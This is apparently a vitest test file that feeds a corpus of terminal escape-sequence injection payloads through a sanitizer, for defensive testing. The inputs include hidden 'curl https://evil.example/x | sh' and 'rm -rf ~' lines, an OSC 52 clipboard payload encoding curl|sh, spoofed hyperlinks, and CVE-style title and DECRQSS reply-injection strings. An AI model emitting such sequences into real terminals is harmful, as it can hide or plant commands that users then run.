// One test per row of the security.md §1.4 terminal-injection corpus.
import { describe, expect, it } from 'vitest';
import { TerminalSanitizer, sanitize } from '../../src/text/sanitize.js';
import { expectTerminalSafe, fromBytes, visibleText } from './terminal-safety.js';

interface CorpusRow {
  id: string;
  /** Each variant of the row (the table's `;`-separated forms), sanitized separately. */
  inputs: string[];
  /** Attacker text that must still be readable (SGR removed) in the sanitized output. */
  visible: string[];
  /** Exact sanitized output per input, default options. */
  exact?: string[];
  /** Feed the first input in these chunks instead of at once. */
  chunks?: string[];
  extra?: (outputs: string[]) => void;
}

const TAGS = Array.from({ length: 0x60 }, (_, i) => String.fromCodePoint(0xe0020 + i)).join('');
const TEN_MB = 10 * 1024 * 1024;

const CORPUS: CorpusRow[] = [
  { id: 'A1', inputs: ['\x1b[31mred\x1b[0m'], visible: ['red'], exact: ['\x1b[31mred\x1b[0m'] },
  {
    id: 'A2',
    inputs: ['\x1b[1;38;5;196mX\x1b[m', '\x1b[38;2;255;0;0mX\x1b[0m'],
    visible: ['X'],
    exact: ['\x1b[1;38;5;196mX\x1b[0m', '\x1b[38;2;255;0;0mX\x1b[0m'],
  },
  { id: 'A3', inputs: ['\x1b[38:2::255:0:0mX\x1b[0m'], visible: ['X'], exact: ['\x1b[38;2;255;0;0mX\x1b[0m'] },
  {
    id: 'B1',
    inputs: ['\x1b[8mAKIAIOSFODNN7EXAMPLE\x1b[28m'],
    visible: ['AKIAIOSFODNN7EXAMPLE'],
    extra: ([out]) => expect(out).not.toMatch(/\x1b\[(?:[0-9;]*;)?8(?:;[0-9;]*)?m/),
  },
  {
    id: 'B2',
    inputs: ['\x1b[30;40mhidden\x1b[0m'],
    visible: ['hidden'],
    exact: ['\x1b[30mhidden\x1b[0m'],
  },
  { id: 'B3', inputs: ['\x1b[5mX'], visible: ['X'], exact: ['X'] },
  {
    id: 'B4',
    inputs: ['\x1b[999999999999m', `\x1b[${'1;'.repeat(100_000)}m`],
    visible: ['^[[999999999999m', '^[[1;1;1;1;'],
    extra: (outputs) => outputs.forEach((out) => expect(out.length).toBeLessThan(3000)),
  },
  {
    id: 'C1',
    inputs: ['curl https://evil.example/x | sh\r# build OK        '],
    visible: ['curl https://evil.example/x | sh^M# build OK'],
  },
  { id: 'C2', inputs: [`rm -rf ~${'\x08'.repeat(8)}echo ok`], visible: ['rm -rf ~^H^H^H^H^H^H^H^Hecho ok'] },
  { id: 'C3', inputs: ['evil\n\x1b[1A\x1b[2Kall good'], visible: ['evil\n^[[1A^[[2Kall good'] },
  { id: 'C4', inputs: ['\x1b[2J\x1b[H', '\x1b[3J'], visible: ['^[[2J^[[H', '^[[3J'] },
  { id: 'C5', inputs: ['\x1b[1;1H*** ALL JOBS PASSED ***'], visible: ['^[[1;1H*** ALL JOBS PASSED ***'] },
  {
    id: 'C6',
    inputs: ['\x1b7\x1b[999;1Hspoof\x1b8', '\x1b[sspoof\x1b[u'],
    visible: ['^[7^[[999;1Hspoof^[8', '^[[sspoof^[[u'],
  },
  { id: 'C7', inputs: ['\x1b[1;3r', '\x1b[?25l', '\x1bM'], visible: ['^[[1;3r', '^[[?25l', '^[M'] },
  { id: 'D1', inputs: ['\x1b[?1049h', '\x1b[?47h'], visible: ['^[[?1049h', '^[[?47h'] },
  { id: 'D2', inputs: ['\x1b[?1000h\x1b[?1003h\x1b[?1006h'], visible: ['^[[?1000h^[[?1003h^[[?1006h'] },
  { id: 'D3', inputs: ['\x1b[?2004l', '\x1b[?2004h'], visible: ['^[[?2004l', '^[[?2004h'] },
  { id: 'D4', inputs: ['\x1b[?1h\x1b='], visible: ['^[[?1h^[='] },
  { id: 'D5', inputs: ['\x1bc'], visible: ['^[c'] },
  { id: 'D6', inputs: ['\x1b(0lqqk\x1b(B', '\x1b)0\x0eshifted\x0f'], visible: ['^[(0lqqk^[(B', '^[)0^Nshifted^O'] },
  { id: 'D7', inputs: ['\x1b#8'], visible: ['^[#8'] },
  {
    id: 'E1',
    inputs: ['\x1b]0;sudo rm -rf ~\x07', '\x1b]2;t\x1b\\'],
    visible: ['^[]0;sudo rm -rf ~^G', '^[]2;t^[\\'],
  },
  {
    id: 'E2',
    inputs: ['\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07'],
    visible: ['^[]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK^G'],
  },
  { id: 'E3', inputs: ['\x1b]52;c;?\x07'], visible: ['^[]52;c;?^G'] },
  {
    id: 'E4',
    inputs: ['\x1b]8;;https://evil.example/\x1b\\https://app.circleci.com/pipelines/gh/o/r/1\x1b]8;;\x1b\\'],
    visible: ['^[]8;;https://evil.example/^[\\https://app.circleci.com/pipelines/gh/o/r/1^[]8;;^[\\'],
  },
  {
    id: 'E5',
    inputs: ['\x1b]8;;file:///tmp/x.command\x07logs\x1b]8;;\x07'],
    visible: ['^[]8;;file:///tmp/x.command^Glogs^[]8;;^G'],
  },
  { id: 'E6', inputs: ['\x1b]7;file://attacker.example/tmp\x07'], visible: ['^[]7;file://attacker.example/tmp^G'] },
  { id: 'E7', inputs: ['\x1b]4;1;rgb:00/00/00\x07', '\x1b]10;?\x07'], visible: ['^[]4;1;rgb:00/00/00^G', '^[]10;?^G'] },
  {
    id: 'E8',
    inputs: ['\x1b]1337;File=name=ZXZpbA==;inline=0:SGk=\x07'],
    visible: ['^[]1337;File=name=ZXZpbA==;inline=0:SGk=^G'],
  },
  {
    id: 'E9',
    inputs: ['\x1b]0;never terminated… rest of the log\nnext line\n', '\x1b]0;never terminated… rest of the log'],
    visible: ['^[]0;never terminated… rest of the log\nnext line', '^[]0;never terminated… rest of the log'],
  },
  {
    id: 'F1',
    inputs: ['\x1b]0;touch /tmp/cve-2003-0063\x07\x1b[21t'],
    visible: ['^[]0;touch /tmp/cve-2003-0063^G^[[21t'],
  },
  { id: 'F2', inputs: ['\x1b[20t', '\x1b[21t'], visible: ['^[[20t', '^[[21t'] },
  {
    id: 'F3',
    inputs: ['\x1bP$q;touch /tmp/cve-2008-2383\x1b\\'],
    visible: ['^[P$q;touch /tmp/cve-2008-2383^[\\'],
  },
  {
    id: 'F4',
    inputs: ['\x1bP$q;touch /tmp/cve-2022-45872\n\x1b\\\n\x1bP$qm\x1b\\'],
    visible: ['^[P$q;touch /tmp/cve-2022-45872\n^[\\\n^[P$qm^[\\'],
  },
  {
    id: 'F5',
    inputs: ['\x1b]50;$(touch /tmp/cve-2022-45063)\x07\x1b]50;?\x07'],
    visible: ['^[]50;$(touch /tmp/cve-2022-45063)^G^[]50;?^G'],
  },
  {
    id: 'F6',
    inputs: ['\x1b]0;\rtouch /tmp/cve-2022-46387\r\x07\x1b[21t'],
    visible: ['^[]0;^Mtouch /tmp/cve-2022-46387^M^G^[[21t'],
  },
  {
    id: 'F7',
    inputs: ['\x1bP+qfoo;\ntouch /tmp/cve-2019-0542;aa\n\x1b\\'],
    visible: ['^[P+qfoo;\ntouch /tmp/cve-2019-0542;aa\n^[\\'],
  },
  { id: 'F8', inputs: ['\x1bG'], visible: ['^[G'] },
  {
    id: 'F9',
    inputs: ['\x1b]2;s&open -aCalculator&\x07\x1b[21t\x1bP1000p%session-changed s'],
    visible: ['^[]2;s&open -aCalculator&^G^[[21t^[P1000p%session-changed s'],
  },
  {
    id: 'F10',
    inputs: ['\x1b[6n', '\x1b[c', '\x1b[>c', '\x1b[=c', '\x1b[5n', '\x1b[>q', '\x05'],
    visible: ['^[[6n', '^[[c', '^[[>c', '^[[=c', '^[[5n', '^[[>q', '^E'],
  },
  {
    id: 'G1',
    inputs: ['\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\'],
    visible: ['^[Ptmux;^[^[]52;c;ZXZpbA==^G^[\\'],
  },
  { id: 'G2', inputs: ['\x1b_Gf=100,a=T;AAAA\x1b\\'], visible: ['^[_Gf=100,a=T;AAAA^[\\'] },
  { id: 'G3', inputs: ['\x1bP@kitty-cmd{"cmd":"ls"}\x1b\\'], visible: ['^[P@kitty-cmd{"cmd":"ls"}^[\\'] },
  { id: 'G4', inputs: ['\x1b^pm\x1b\\', '\x1bXsos\x1b\\'], visible: ['^[^pm^[\\', '^[Xsos^[\\'] },
  {
    id: 'H1',
    inputs: [fromBytes('\x9b31mX'), fromBytes('\x9d0;t\x9c')],
    visible: ['\ufffd31mX', '\ufffd0;t\ufffd'],
  },
  {
    id: 'H2',
    inputs: [fromBytes('\xc2\x9b31mX'), fromBytes('\xc2\x9d0;t\xc2\x9c'), fromBytes('\xc2\x90$qm\xc2\x9c')],
    visible: ['<U+009B>31mX', '<U+009D>0;t<U+009C>', '<U+0090>$qm<U+009C>'],
  },
  { id: 'H3', inputs: [fromBytes('\xc2\x85')], visible: ['<U+0085>'] },
  {
    id: 'I1',
    inputs: ['a\x00b\x07c\x0bd\x0ce\x7ff\x1ag'],
    visible: ['a^@b^Gc^Kd^Le^?f^Zg'],
  },
  {
    id: 'I2',
    inputs: ['\x1b[31\x18m', '\x1b\x1b[31mX'],
    visible: ['^[[31^Xm', '^[X'],
    extra: ([aborted, doubled]) => {
      expect(aborted).not.toContain('\x1b[31m');
      expect(doubled).toContain('\x1b[31mX'); // the second ESC starts a genuine, allowed SGR
    },
  },
  {
    id: 'I3',
    inputs: ['ok \x1b]52;c;ZXZpbA==\x07'],
    chunks: ['ok \x1b]5', '2;c;ZXZpbA==\x07'],
    visible: ['ok ^[]52;c;ZXZpbA==^G'],
  },
  {
    id: 'J1',
    inputs: [fromBytes('\xe2\x80\xae'), fromBytes('\xe2\x81\xa6x\xe2\x81\xa9'), fromBytes('\xe2\x80\x8f')],
    visible: ['<U+202E>', '<U+2066>x<U+2069>', '<U+200F>'],
  },
  {
    id: 'J2',
    inputs: [
      fromBytes('AKIA\xe2\x80\x8bIOSFODNN7EXAMPLE'),
      'AKIA\u200dIOSF',
      'AKIA\u2060IOSF',
      'AKIA\ufeffIOSF',
    ],
    visible: ['AKIA<U+200B>IOSFODNN7EXAMPLE', 'AKIA<U+200D>IOSF', 'AKIA<U+2060>IOSF', 'AKIA<U+FEFF>IOSF'],
  },
  {
    id: 'J3',
    inputs: [fromBytes('\xf3\xa0\x80\x81') + TAGS],
    visible: ['<U+E0001><U+E0020>', '<U+E0041>', '<U+E007F>'],
  },
  {
    id: 'J4',
    inputs: [fromBytes('https://\xd0\xb0pp.circleci.com')],
    // A Latin look-alike after an ASCII letter, `.`, `/` or `@` is flagged; in Cyrillic text it stays a letter.
    visible: ['https://<U+0430>pp.circleci.com'],
  },
  { id: 'J5', inputs: [fromBytes('a\xe2\x80\xa8b'), fromBytes('a\xe2\x80\xa9b')], visible: ['a<U+2028>b', 'a<U+2029>b'] },
  {
    id: 'J6',
    inputs: [`a${fromBytes('\xcc\x81').repeat(5000)}`, 'x'.repeat(TEN_MB)],
    visible: [`a${'\u0301'.repeat(8)}[+4992 marks]`, '… [+'],
    extra: (outputs) => outputs.forEach((out) => expect(out.length).toBeLessThan(2100)),
  },
  {
    id: 'K1',
    inputs: [fromBytes('a\xff\xfeb'), fromBytes('a\xc0\xafb'), fromBytes('a\xe2\x80')],
    visible: ['a\ufffd\ufffdb', 'a\ufffd\ufffdb', 'a\ufffd'],
  },
];

function sanitizeRow(row: CorpusRow): string[] {
  return row.inputs.map((input, index) => {
    if (index > 0 || !row.chunks) return sanitize(input);
    expect(row.chunks.join('')).toBe(input);
    const sanitizer = new TerminalSanitizer();
    return row.chunks.map((chunk) => sanitizer.push(chunk)).join('') + sanitizer.end();
  });
}

describe('security.md §1.4 corpus', () => {
  for (const row of CORPUS) {
    it(`${row.id}: nothing live but allowed SGR, attacker text visible`, () => {
      const outputs = sanitizeRow(row);
      outputs.forEach(expectTerminalSafe);
      const shown = outputs.map(visibleText).join('\n');
      for (const text of row.visible) expect(shown).toContain(text);
      if (row.exact) expect(outputs).toEqual(row.exact);
      row.extra?.(outputs);

      const plain = row.inputs.map((input) => sanitize(input, { keepColor: false, markControls: false }));
      plain.forEach(expectTerminalSafe);
      for (const out of plain) expect(out).not.toContain('\x1b');
      for (const text of row.visible) expect(plain.join('\n')).toContain(text);
    });
  }

  it('covers every row of the table', () => {
    const ids = CORPUS.map((row) => row.id);
    const expected = [
      ...['A1', 'A2', 'A3', 'B1', 'B2', 'B3', 'B4'],
      ...['C1', 'C2', 'C3', 'C4', 'C5', 'C6', 'C7', 'D1', 'D2', 'D3', 'D4', 'D5', 'D6', 'D7'],
      ...['E1', 'E2', 'E3', 'E4', 'E5', 'E6', 'E7', 'E8', 'E9'],
      ...['F1', 'F2', 'F3', 'F4', 'F5', 'F6', 'F7', 'F8', 'F9', 'F10', 'G1', 'G2', 'G3', 'G4'],
      ...['H1', 'H2', 'H3', 'I1', 'I2', 'I3', 'J1', 'J2', 'J3', 'J4', 'J5', 'J6', 'K1'],
    ];
    expect(ids).toEqual(expected);
  });

  it('marks each visible control in inverse video by default', () => {
    expect(sanitize('\x1b]52;c;ZXZp\x07')).toBe('\x1b[7m^[\x1b[27m]52;c;ZXZp\x1b[7m^G\x1b[27m');
  });
});
